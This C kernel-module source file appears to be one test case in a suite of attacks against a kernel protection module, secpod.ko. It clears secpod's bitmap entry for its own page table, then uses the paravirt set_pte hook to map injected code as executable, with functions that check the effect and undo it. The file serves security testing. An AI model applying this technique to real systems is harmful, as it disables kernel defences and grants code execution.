/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Has the kernel's own function for page-table entries make data executable. With secpod.ko loaded it leads there
 * and becomes a request; then what tells secpod.ko which stores to ask for is attacked first.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/io.h>
#include <asm/paravirt_types.h>

#define INDEX 3
#define WORD_BITS 64u

static u64 *table;
static u64
	*shown; /* word of the bitmap that has the bit of our table; the others are other tables' */

/* Named by the module, so that it cannot be another's. */
static u64 *find_shown(u64 physical)
{
	u64 **tables = (u64 **)attack_symbol("secpod:tables");

	return tables && *tables ? &(*tables)[(physical >> PAGE_SHIFT) / WORD_BITS] : NULL;
}

static bool is_shown(void)
{
	return READ_ONCE(*shown) >> (virt_to_phys(table) >> PAGE_SHIFT) % WORD_BITS & 1;
}

static int attempt(void)
{
	void *code = attack_page(0);

	table = attack_page(0);
	if (!attack_area() || !table || !code || !attack_link(table))
		return -ENOMEM;
	attack_write_code(code);
	shown = find_shown(virt_to_phys(table));
	if (shown && !is_shown())
		return -EINVAL;
	if (shown)
		(void)attack_store(shown, 0);
	/* Refused, it ends the thread. */
	pv_ops.mmu.set_pte((pte_t *)&table[INDEX], __pte(virt_to_phys(code) | ATTACK_CODE));
	return 0;
}

static bool effect(void)
{
	const u64 entry = READ_ONCE(table[INDEX]);
	const bool hidden = shown && !is_shown();

	attack_detail("entry 0x%llx, bitmap %s", entry,
		      !shown ? "none" : (hidden ? "changed" : "as it was"));
	return entry || hidden;
}

static void undo(void)
{
	(void)attack_store(&table[INDEX], 0);
}

static const struct attack set_functions = {
	"set_functions", "kernel-exec,code-store", NULL, attempt, effect, undo};
ATTACK_MODULE(set_functions);
